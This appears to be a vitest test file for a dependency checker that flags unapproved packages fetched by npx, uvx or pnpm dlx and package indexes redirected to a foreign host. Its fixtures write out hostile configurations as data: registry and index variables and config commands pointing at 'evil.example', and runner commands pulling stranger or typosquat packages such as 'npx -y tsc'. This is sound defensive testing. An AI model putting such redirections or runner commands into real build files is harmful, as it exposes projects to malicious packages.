import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { Scratch } from '../kit/scratch.ts';
import { whitelistText } from '../kit/whitelist.ts';
import { runIn } from '../kit/world.ts';

/*
 * Commands in files that build servers and assistants run: what a runner fetches by a program's name, and what chooses the
 * index that packages come from. All that the project has is approved, so only the place of a package can be wrong. One
 * repository for all rows.
 */

type Files = Readonly<Record<string, string>>;

const ours = 'https://index.example/simple';
const other = 'https://evil.example/simple';

const manifest = (...names: readonly string[]) =>
  `${JSON.stringify({ devDependencies: Object.fromEntries(names.map((name) => [name, '1'])) })}\n`;

/** A lockfile in which a package has programs. */
function lock(name: string, ...programs: readonly string[]): string {
  const bin = Object.fromEntries(programs.map((program) => [program, 'bin.js']));
  const packages = { [`node_modules/${name}`]: { version: '1.0.0', bin } };
  return `${JSON.stringify({ lockfileVersion: 3, packages })}\n`;
}

/** `.mcp.json` with one server. */
function server(words: string, env: Readonly<Record<string, string>> = {}): Files {
  const [command, ...args] = words.split(' ');
  return { '.mcp.json': `${JSON.stringify({ mcpServers: { tools: { command, args, env } } }, null, 2)}\n` };
}

const file = (name: string, ...lines: readonly string[]): Files => ({ [name]: `${lines.join('\n')}\n` });
const docker = (...lines: readonly string[]) => file('Dockerfile', 'FROM node:22', ...lines);
const script = (...lines: readonly string[]) => file('ci/run.sh', ...lines);
const workflow = (...lines: readonly string[]) => file('.github/workflows/ci.yml', ...lines);

let scratch: Scratch;
beforeAll(async () => {
  scratch = await Scratch.with({
    '.check-importsrc.yaml': 'commands: all\n',
    'approved-packages.yaml': whitelistText({
      'npm:@acme/tools': { approved: 'our own' },
      'npm:eslint': { approved: 'style' },
      'npm:typescript': { approved: 'types' },
      'pypi:flask': { approved: 'the API' },
      'pypi:ruff': { approved: 'style' },
    }),
    'package.json': manifest('typescript', 'eslint', '@acme/tools'),
    'package-lock.json': lock('@acme/tools', 'acme'),
    ...file('ci/old.sh', `export UV_INDEX_URL=${ours}`, 'uv sync'),
    ...file('old.Dockerfile', 'FROM a', `ENV PIP_INDEX_URL=${ours}`, 'RUN pip install flask'),
  });
  await scratch.git('tag', 'start');
});
afterAll(() => {
  scratch.dispose();
});

/** @returns Of each finding its place, its rule, and the package or the address that it names. */
async function after(change: Files): Promise<readonly string[]> {
  await scratch.git('reset', '--quiet', '--hard', 'start');
  await scratch.git('clean', '--quiet', '-ffdx');
  scratch.write(change);
  await scratch.git('add', '--all');
  const { stdout, stderr } = await runIn(scratch, ['--staged', '--offline', '--format', 'concise']);
  return [stderr, ...stdout.split('\n')].filter((line) => line !== '').map(shortened);
}

function shortened(line: string): string {
  const [, place, rule, message = ''] = /^(\S+?:\d+):\d+: \w+ ([\w-]+)\S* (.*)$/.exec(line) ?? [];
  if (place === undefined || rule === undefined) return line;
  const [, named] =
    /\((http[^)]*)\)/.exec(message) ?? / \[(.*)\]$/.exec(message) ?? /what (\S+)/.exec(message) ?? [];
  return `${place} ${rule} ${named ?? message}`;
}

type Row = readonly [what: string, change: Files, findings: readonly string[]];

function tells(rows: readonly Row[]): void {
  test.each(rows)('%s', async (_, change, findings) => {
    expect(await after(change)).toEqual(findings);
  });
}

describe('a runner fetches the package of that very name', () => {
  tells([
    // What people mean by tsc is in typescript, and the package tsc is a stranger's.
    ['of a server', server('npx -y tsc'), ['.mcp.json:7 unapproved-package npm:tsc']],
    ['of a server in Python', server('uvx numpy-utils'), ['.mcp.json:6 unapproved-package pypi:numpy-utils']],
    [
      'of a server that nothing is asked for',
      server('npx stranger'),
      ['.mcp.json:6 unapproved-package npm:stranger'],
    ],
    ['in an image', docker('RUN npx -y tsc'), ['Dockerfile:2 unapproved-package npm:tsc']],
    [
      'in an image, where nobody can refuse',
      docker('RUN npx stranger'),
      ['Dockerfile:2 unapproved-package npm:stranger'],
    ],
    ['in a script', script('npx --yes tsc'), ['ci/run.sh:1 unapproved-package npm:tsc']],
    ['whatever the project has', script('pnpm dlx tsc'), ['ci/run.sh:1 unapproved-package npm:tsc']],
    [
      'told to assistants',
      file('AGENTS.md', '```sh', 'npx -y tsc', '```'),
      ['AGENTS.md:2 unapproved-package npm:tsc'],
    ],
    [
      'that a lockfile of the change gives to an approved package',
      { ...server('npx -y evil'), 'package-lock.json': lock('@acme/tools', 'acme', 'evil') },
      ['.mcp.json:7 unapproved-package npm:evil'],
    ],
    [
      'or in an image',
      { ...docker('RUN npx evil'), 'package-lock.json': lock('@acme/tools', 'acme', 'evil') },
      ['Dockerfile:2 unapproved-package npm:evil'],
    ],
    [
      'or in a script, where npx asks first',
      { ...script('npx evil'), 'package-lock.json': lock('@acme/tools', 'acme', 'evil') },
      ['ci/run.sh:1 unclear-import evil'],
    ],
  ]);
});

describe('silent is', () => {
  tells([
    ['a server whose package is approved', server('npx -y eslint --mcp'), []],
    ['a server that names the package of the program', server('npx -y -p typescript tsc'), []],
    ['a server in Python whose package is approved', server('uvx ruff server'), []],
    ['a program of a declared package, by what is known', docker('RUN npx tsc'), []],
    ['the same in a script', script('npx tsc -b'), []],
    ['a program of a declared package, by the lockfile of the base', script('npx acme'), []],
    ['a program in an image, by the lockfile of the base', docker('RUN npx acme'), []],
    ['what is never fetched', script('npx --no stranger'), []],
  ]);
});

describe('an index is chosen', () => {
  tells([
    [
      'for a server',
      server('npx -y eslint', { NPM_CONFIG_REGISTRY: other }),
      [`.mcp.json:10 foreign-source ${other}`],
    ],
    [
      'for a server in Python',
      server('uvx ruff', { UV_DEFAULT_INDEX: other }),
      [`.mcp.json:9 foreign-source ${other}`],
    ],
    [
      'before a server',
      server(`env npm_config_registry=${other} npx -y eslint`),
      [`.mcp.json:6 foreign-source ${other}`],
    ],
    [
      'for all that an assistant runs',
      { '.claude/settings.json': JSON.stringify({ env: { PIP_INDEX_URL: other } }) },
      [`.claude/settings.json:1 foreign-source ${other}`],
    ],
    [
      'in an image',
      docker(`ENV PIP_INDEX_URL=${other}`, 'RUN pip install flask'),
      [`Dockerfile:2 foreign-source ${other}`],
    ],
    [
      'by an argument',
      docker(`ARG PIP_INDEX_URL=${other}`, 'RUN pip install flask', 'RUN pip install ruff'),
      [`Dockerfile:2 foreign-source ${other}`],
    ],
    [
      'for what is made from an image',
      docker(`ENV npm_config_registry ${other}`),
      [`Dockerfile:2 foreign-source ${other}`],
    ],
    [
      'for an image',
      file(
        'compose.yaml',
        'services:',
        '  a:',
        '    build:',
        '      args:',
        `        - PIP_INDEX_URL=${other}`,
      ),
      [`compose.yaml:5 foreign-source ${other}`],
    ],
    [
      'for a workflow',
      workflow(
        'env:',
        `  NPM_CONFIG_REGISTRY: ${other}`,
        'jobs:',
        '  a:',
        '    steps:',
        '      - run: npm ci',
        '      - run: npx acme',
      ),
      [`.github/workflows/ci.yml:2 foreign-source ${other}`],
    ],
    [
      'for a job',
      workflow(
        'jobs:',
        '  a:',
        '    env:',
        `      PIP_INDEX_URL: ${other}`,
        '    steps:',
        '      - run: pip install flask',
      ),
      [`.github/workflows/ci.yml:4 foreign-source ${other}`],
    ],
    [
      'for a step',
      workflow(
        'jobs:',
        '  a:',
        '    steps:',
        '      - run: pip install flask',
        `        env: { PIP_EXTRA_INDEX_URL: ${other} }`,
      ),
      [`.github/workflows/ci.yml:5 foreign-source ${other}`],
    ],
    [
      'for what an action runs',
      workflow(
        'jobs:',
        '  a:',
        '    steps:',
        '      - uses: acme/install@v1',
        `        env: { UV_INDEX: ${other} }`,
      ),
      [`.github/workflows/ci.yml:5 foreign-source ${other}`],
    ],
    [
      'for a pipeline',
      file('.gitlab-ci.yml', 'variables:', `  PIP_INDEX_URL: ${other}`, 'include: /ci/all.yml'),
      [`.gitlab-ci.yml:2 foreign-source ${other}`],
    ],
    [
      'in a script',
      script(`export UV_INDEX_URL=${other}`, 'uv sync'),
      [`ci/run.sh:1 foreign-source ${other}`],
    ],
    ['in a shell', file('.envrc', `export PIP_INDEX_URL=${other}`), [`.envrc:1 foreign-source ${other}`]],
    [
      'in a Makefile',
      file('Makefile', `export PIP_INDEX_URL = ${other}`),
      [`Makefile:1 foreign-source ${other}`],
    ],
    ['by settings', script(`npm config set registry ${other}`), [`ci/run.sh:1 foreign-source ${other}`]],
    [
      'by settings of pip',
      script(`pip config set global.index-url ${other}`),
      [`ci/run.sh:1 foreign-source ${other}`],
    ],
    ['by an option', server(`npx -y --registry=${other} eslint`), [`.mcp.json:7 foreign-source ${other}`]],
    [
      'by a script that had another one',
      file('ci/old.sh', `export UV_INDEX_URL=${other}`, 'uv sync'),
      [`ci/old.sh:1 foreign-source ${other}`],
    ],
  ]);
});

describe('silent is an index', () => {
  const npm = 'https://registry.yarnpkg.com/';
  const pypi = 'https://pypi.org/simple';
  tells([
    ['that is asked anyway, by a server', server('npx -y eslint', { NPM_CONFIG_REGISTRY: npm }), []],
    ['that is asked anyway, in an image', docker(`ENV PIP_INDEX_URL=${pypi}`, 'RUN pip install flask'), []],
    [
      'that is asked anyway, in a workflow',
      workflow('env:', `  NPM_CONFIG_REGISTRY: ${npm}`, 'jobs:', '  a:', '    steps:', '      - run: npm ci'),
      [],
    ],
    [
      'that is asked anyway, in a script',
      script(`export UV_INDEX_URL=${pypi}`, `npm config set registry ${npm}`),
      [],
    ],
    [
      'that the file at the base has',
      file('ci/old.sh', 'set -e', `export UV_INDEX_URL=${ours}`, 'uv sync --locked'),
      [],
    ],
    [
      'that the image at the base has',
      file('old.Dockerfile', 'FROM b', `ENV PIP_INDEX_URL=${ours}`, 'RUN pip install ruff'),
      [],
    ],
    ['that an image is told', docker('ARG PIP_INDEX_URL', 'RUN pip install flask'), []],
    ['whose variable is none of the tools', docker(`ENV ACME_INDEX=${other}`, 'RUN pip install flask'), []],
    [
      'that is taken back at once',
      docker(`ENV PIP_INDEX_URL=${other}`, `ENV PIP_INDEX_URL=${pypi}`, 'RUN pip install flask'),
      [],
    ],
  ]);
});
